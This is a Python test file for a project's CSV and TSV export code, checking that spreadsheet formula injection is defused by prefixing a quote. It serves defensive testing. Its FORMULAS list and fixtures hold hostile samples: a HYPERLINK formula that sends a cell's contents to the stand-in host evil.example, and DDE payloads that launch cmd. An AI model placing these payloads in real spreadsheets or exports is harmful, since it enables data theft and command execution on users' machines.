"""Spreadsheet formula injection (issue 14, finding 6): every CSV/TSV export makes formula cells inert."""

from __future__ import annotations

import csv
import io
import warnings
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from horizonscan.present.cells import spreadsheet_cell
from horizonscan.present.exports import events_csv, events_json, events_tsv
from horizonscan.present.graph import to_csv
from horizonscan.query.records import EventRecord

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-6, -6.5, 0, 3, "-6", "-12.50000", "+3e2", "-.5", "", "China", "a=b", " =1", "'=1", None, True])
def test_numbers_and_plain_text_are_kept(value: Any) -> None:
    assert spreadsheet_cell(value) is value


def _event(**fields: Any) -> EventRecord:
    base = EventRecord(
        id=7, document_id="abc", type="AID", mode=None, source_text="China", source_actor_id="CHN", source_country="CHN",
        source_sector=None, target_text="Kazakhstan", target_actor_id="KAZ", target_country="KAZ", target_sector=None,
        place_text="Astana", place_lat=-51.16, place_lon=71.47, place_country="KAZ", date_value="2020-03-03",
        date_precision="day", date_start="2020-03-03", negated=False, hypothetical=False, confidence=0.8, score=-6.5,
        cameo="073", cluster_id=None, sentence="China sent aid.", document_title="Aid",
    )
    return replace(base, **fields)


HOSTILE = dict(sentence=FORMULAS[0], source_text=FORMULAS[1], target_text=FORMULAS[2], place_text=FORMULAS[3],
               document_title="@cmd")


def test_event_csv_export() -> None:
    row = next(csv.DictReader(io.StringIO(events_csv([_event(**HOSTILE)]))))
    assert row["sentence"] == "'" + FORMULAS[0] and row["source_text"] == "'" + FORMULAS[1]
    assert row["target_text"] == "'+1+1" and row["place_text"] == "'" + FORMULAS[3] and row["document_title"] == "'@cmd"
    assert row["score"] == "-6.5" and row["place_lat"] == "-51.16"  # negative numbers stay numbers


def test_event_tsv_export() -> None:
    lines = events_tsv([_event(**HOSTILE)]).splitlines()
    row = dict(zip(lines[0].split("\t"), lines[1].split("\t")))
    assert row["sentence"].startswith("'=HYPERLINK(") and row["source_text"].startswith("'@SUM(")
    assert row["target_text"] == "'+1+1" and row["place"].startswith("'-2+3")
    assert row["score"] == "-6.5" and row["lat"] == "-51.16000"


def test_json_export_keeps_the_text_as_stored() -> None:
    assert '"sentence": "=HYPERLINK(' in events_json([_event(**HOSTILE)])  # for programs, not spreadsheets


def test_table_csv_export() -> None:
    rows = [{"actor": "=cmd|' /C calc'!A0", "count": 3, "score": -2.5, "note": None}, {"actor": "@x", "count": -1, "score": "-1"}]
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows, ["actor", "count", "score", "note"]))))
    assert [r["actor"] for r in parsed] == ["'=cmd|' /C calc'!A0", "'@x"]
    assert [(r["count"], r["score"]) for r in parsed] == [("3", "-2.5"), ("-1", "-1")]


def test_cli_csv_exports(tmp_path: Path) -> None:
    """`events --format csv/tsv` and `query` tables go through present/ (checked on a stored hostile document)."""
    from typer.testing import CliRunner

    from horizonscan.cli.app import app

    db = _store_with_hostile_document(tmp_path / "x.db")
    runner = CliRunner()
    for fmt in ("csv", "tsv"):
        out = runner.invoke(app, ["--db", db, "events", "--format", fmt])
        assert out.exit_code == 0, out.output
        assert "'@SUM(1+1)" in out.output and "\t@SUM" not in out.output and ",@SUM" not in out.output
    out = runner.invoke(app, ["--db", db, "actors", "--format", "csv"])
    assert out.exit_code == 0, out.output
    assert "'=Evil" in out.output


def _store_with_hostile_document(path: Path) -> str:
    from test_web_helpers import _analysis

    from horizonscan.ingest.normalise import clean_text, content_id
    from horizonscan.records import Document, Found
    from horizonscan.store import open_store

    text = clean_text("@SUM(1+1)*cmd|' /C calc'!A0 =Evil Corp sent aid to Kazakhstan in Astana on 3 March 2020.")
    spec = ("default", "2020-03-04", "=HYPERLINK(\"http://evil.example\")", text,
            [("=Evil Corp", "company:evil", "company", "CHN"), ("Kazakhstan", "KAZ", "state", "KAZ")],
            [("Astana", 51.16, 71.47, "KAZ")],
            [("AID", "company:evil", "KAZ", "Astana", "2020-03-03", -6.5)])
    store = open_store(f"sqlite:///{path}")
    doc = Document(content_id(text), text, Found(spec[2], "test"), Found("2020-03-04", "test"), Found("en", "test"), reader="test.v1")
    store.write(doc, _analysis(text, spec), "hostile.txt")
    store.close()
    return f"sqlite:///{path}"


def test_web_events_csv_export(tmp_path: Path) -> None:
    pytest.importorskip("fastapi")
    pytest.importorskip("argon2")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient
    from test_web_helpers import build, make_app

    fx = build(tmp_path / "web.db")
    _store_with_hostile_document(tmp_path / "web.db")
    app = make_app(fx, tmp_path)
    r = TestClient(app).get("/api/v1/events.csv", headers={"authorization": f"Bearer {fx.tokens['reader']}"})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    hostile = [row for row in rows if "SUM" in row["sentence"]]
    assert len(hostile) == 1 and hostile[0]["sentence"].startswith("'@SUM(1+1)")
    assert hostile[0]["score"] == "-6.5" and hostile[0]["source_actor_id"] == "company:evil"
    assert all(not row["sentence"].startswith(("=", "+", "-", "@")) for row in rows)
